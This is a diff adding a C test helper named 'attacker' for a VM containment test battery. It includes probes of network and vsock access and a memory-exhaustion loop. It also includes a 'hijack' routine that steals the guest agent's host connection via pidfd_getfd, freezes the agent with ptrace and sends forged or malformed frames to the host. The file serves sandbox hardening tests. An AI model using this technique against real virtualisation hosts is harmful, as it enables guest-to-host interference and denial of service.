@@ -1,0 +1,282 @@
+/*
+ * The containment battery's attacker (tests/containment/): the few things a
+ * hostile command needs that the guest's busybox cannot do. The battery
+ * builds it with the system C compiler (`cc -static`, as the kernel builds
+ * already need one) into target/containment/, where the guest sees it
+ * through the workspace; being static, it runs on the busybox guest and on
+ * the test host alike.
+ *
+ *   attacker id                  print real and effective uid/gid
+ *   attacker inet ADDR PORT      TCP connect to an IPv4 address
+ *   attacker listen PORT         accept TCP connections on 127.0.0.1:PORT,
+ *                                one "accepted" line each, forever
+ *   attacker vsock CID PORT      vsock stream connect
+ *   attacker eat                 allocate and touch memory until killed
+ *   attacker hijack MODE         take the guest agent's vsock connection to
+ *                                the host out of PID 1 (pidfd_getfd, as a
+ *                                guest root that owns the guest could),
+ *                                freeze the agent (ptrace), and write
+ *                                MODE's bytes to the host on it
+ *
+ * Each prints one line saying what happened, so that a test can tell "the
+ * attack was refused" from "the attack never ran".
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <linux/vm_sockets.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#ifndef SYS_pidfd_open
+#define SYS_pidfd_open 434
+#endif
+#ifndef SYS_pidfd_getfd
+#define SYS_pidfd_getfd 438
+#endif
+
+static int usage(void)
+{
+    fprintf(stderr, "usage: attacker id | inet ADDR PORT | listen PORT | "
+                    "vsock CID PORT | eat | hijack MODE\n");
+    return 2;
+}
+
+static int cmd_id(void)
+{
+    printf("uid=%d euid=%d gid=%d egid=%d\n", (int)getuid(), (int)geteuid(),
+           (int)getgid(), (int)getegid());
+    return 0;
+}
+
+static int cmd_inet(const char *addr, const char *port)
+{
+    struct sockaddr_in sa = {.sin_family = AF_INET,
+                             .sin_port = htons((uint16_t)atoi(port))};
+    if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
+        return usage();
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (s < 0) {
+        printf("inet %s:%s: socket: %s\n", addr, port, strerror(errno));
+        return 1;
+    }
+    if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) {
+        printf("inet %s:%s: connect: %s\n", addr, port, strerror(errno));
+        return 1;
+    }
+    printf("inet %s:%s: connected\n", addr, port);
+    return 0;
+}
+
+static int cmd_listen(const char *port)
+{
+    struct sockaddr_in sa = {.sin_family = AF_INET,
+                             .sin_port = htons((uint16_t)atoi(port)),
+                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+    int one = 1;
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (s < 0 || setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
+        bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 16) < 0) {
+        printf("listen %s: %s\n", port, strerror(errno));
+        return 1;
+    }
+    printf("listening\n");
+    fflush(stdout);
+    for (;;) {
+        int c = accept(s, NULL, NULL);
+        if (c < 0)
+            continue;
+        printf("accepted\n");
+        fflush(stdout);
+        close(c);
+    }
+}
+
+static int cmd_vsock(const char *cid, const char *port)
+{
+    struct sockaddr_vm sa = {.svm_family = AF_VSOCK,
+                             .svm_cid = (unsigned)atoi(cid),
+                             .svm_port = (unsigned)atoi(port)};
+    int s = socket(AF_VSOCK, SOCK_STREAM, 0);
+    if (s < 0) {
+        printf("vsock %s:%s: socket: %s\n", cid, port, strerror(errno));
+        return 1;
+    }
+    if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) {
+        printf("vsock %s:%s: connect: %s\n", cid, port, strerror(errno));
+        return 1;
+    }
+    printf("vsock %s:%s: connected\n", cid, port);
+    return 0;
+}
+
+/* Touches every page, so the memory is really used, not just reserved. */
+static int cmd_eat(void)
+{
+    const size_t chunk = 1 << 20;
+    for (size_t mib = 1;; mib++) {
+        char *p = malloc(chunk);
+        if (!p) {
+            printf("malloc failed after %zu MiB\n", mib - 1);
+            return 1;
+        }
+        memset(p, (int)mib, chunk);
+        if (mib % 16 == 0) {
+            printf("ate %zu MiB\n", mib);
+            fflush(stdout);
+        }
+    }
+}
+
+/* One protocol frame (docs/protocol.md): u32 LE length of kind + payload. */
+static size_t frame(unsigned char *out, unsigned char kind, const void *payload,
+                    size_t len)
+{
+    uint32_t n = (uint32_t)len + 1;
+    memcpy(out, &n, 4);
+    out[4] = kind;
+    memcpy(out + 5, payload, len);
+    return len + 5;
+}
+
+static int write_all(int fd, const unsigned char *buf, size_t len)
+{
+    while (len > 0) {
+        ssize_t n = write(fd, buf, len);
+        if (n < 0 && (errno == EAGAIN || errno == EINTR)) {
+            usleep(1000);
+            continue;
+        }
+        if (n <= 0)
+            return -1;
+        buf += n;
+        len -= (size_t)n;
+    }
+    return 0;
+}
+
+/* The agent's connection: a connected vsock stream whose peer is the host. */
+static int steal_host_connection(void)
+{
+    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
+    if (pidfd < 0) {
+        printf("hijack: pidfd_open(1): %s\n", strerror(errno));
+        return -1;
+    }
+    for (int target = 0; target < 1024; target++) {
+        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
+        if (fd < 0) {
+            if (errno == EPERM) {
+                printf("hijack: pidfd_getfd: %s\n", strerror(errno));
+                return -1;
+            }
+            continue;
+        }
+        struct sockaddr_vm peer;
+        socklen_t len = sizeof peer;
+        if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0 &&
+            peer.svm_family == AF_VSOCK && peer.svm_cid == VMADDR_CID_HOST)
+            return fd;
+        close(fd);
+    }
+    printf("hijack: no vsock connection to the host in PID 1\n");
+    return -1;
+}
+
+static int cmd_hijack(const char *mode)
+{
+    static unsigned char buf[(1 << 20) + 64];
+    size_t len = 0;
+    if (strcmp(mode, "forge") == 0) {
+        /* Well-formed frames: what the host must accept from the agent. */
+        const char out[] = "FORGED-BY-THE-GUEST\n";
+        const char exit_json[] = "{\"code\":42,\"signal\":null,\"status\":42}";
+        len = frame(buf, 17, out, sizeof out - 1);
+        len += frame(buf + len, 19, exit_json, sizeof exit_json - 1);
+    } else if (strcmp(mode, "oversized") == 0) {
+        /* A length of 4 GiB - 1, then some of the promised bytes. */
+        memset(buf, 0xff, 4);
+        memset(buf + 4, 'A', 65536);
+        len = 4 + 65536;
+    } else if (strcmp(mode, "empty") == 0) {
+        memset(buf, 0, 4);
+        len = 4;
+    } else if (strcmp(mode, "version") == 0) {
+        const char hello[] = "{\"version\":99}";
+        len = frame(buf, 1, hello, sizeof hello - 1);
+    } else if (strcmp(mode, "bigdata") == 0) {
+        /* A Stdout frame within MAX_FRAME but over MAX_DATA (64 KiB). */
+        static unsigned char data[1 << 20];
+        memset(data, 'D', sizeof data - 8);
+        len = frame(buf, 17, data, sizeof data - 8);
+    } else if (strcmp(mode, "garbage") == 0) {
+        /* Small lengths with unknown kinds and bad JSON, then noise. */
+        const char junk[] = "{not json";
+        len = frame(buf, 0x7f, "x", 1);
+        len += frame(buf + len, 19, junk, sizeof junk - 1);
+        uint64_t x = 0x9e3779b97f4a7c15u;
+        for (int i = 0; i < 4096; i++) {
+            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
+            buf[len++] = (unsigned char)x;
+        }
+    } else {
+        return usage();
+    }
+    int fd = steal_host_connection();
+    if (fd < 0)
+        return 1;
+    printf("hijack: freezing the agent, then writing %zu bytes (%s) to the host "
+           "on its connection\n",
+           len, mode);
+    fflush(stdout);
+    /* Let that line reach the host first, relayed by the agent. */
+    sleep(1);
+    /* A guest that owns its kernel does not politely reboot when the host
+     * hangs up: stop the agent, so that only the host can end the run.
+     * The agent relays our output no more, so say how that went in a
+     * Stderr frame of our own. */
+    char said[160];
+    if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0 &&
+        ptrace(PTRACE_INTERRUPT, 1, NULL, NULL) == 0)
+        snprintf(said, sizeof said, "hijack: the agent is stopped\n");
+    else
+        snprintf(said, sizeof said, "hijack: cannot stop the agent: %s\n", strerror(errno));
+    static unsigned char note[256];
+    size_t note_len = frame(note, 18, said, strlen(said));
+    /* The host may hang up mid-write: that must not end us (and with us
+     * the agent's stop). */
+    signal(SIGPIPE, SIG_IGN);
+    if (write_all(fd, note, note_len) == 0)
+        write_all(fd, buf, len);
+    /* Stay alive (and keep the agent frozen): the host's reaction, not our
+     * exit, must end the run. */
+    sleep(600);
+    printf("hijack: still running after 600 s\n");
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (argc == 2 && strcmp(argv[1], "id") == 0)
+        return cmd_id();
+    if (argc == 4 && strcmp(argv[1], "inet") == 0)
+        return cmd_inet(argv[2], argv[3]);
+    if (argc == 3 && strcmp(argv[1], "listen") == 0)
+        return cmd_listen(argv[2]);
+    if (argc == 4 && strcmp(argv[1], "vsock") == 0)
+        return cmd_vsock(argv[2], argv[3]);
+    if (argc == 2 && strcmp(argv[1], "eat") == 0)
+        return cmd_eat();
+    if (argc == 3 && strcmp(argv[1], "hijack") == 0)
+        return cmd_hijack(argv[2]);
+    return usage();
+}
